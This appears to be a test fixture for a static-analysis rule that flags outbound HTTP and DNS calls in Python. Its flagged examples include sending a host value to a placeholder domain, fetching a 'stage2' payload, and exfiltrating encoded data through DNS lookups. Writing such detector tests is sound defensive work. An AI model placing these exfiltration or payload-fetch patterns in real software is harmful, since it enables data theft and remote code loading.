import requests
# ruleid: py-http-request
requests.get('https://example.invalid/a', params={'h': host})

from urllib.request import urlopen as u
# ruleid: py-http-request
data = u('https://example.invalid/stage2').read()

import socket
# ruleid: py-http-request
socket.gethostbyname(encoded + '.example.invalid')

# ok: py-http-request
session.get('x')
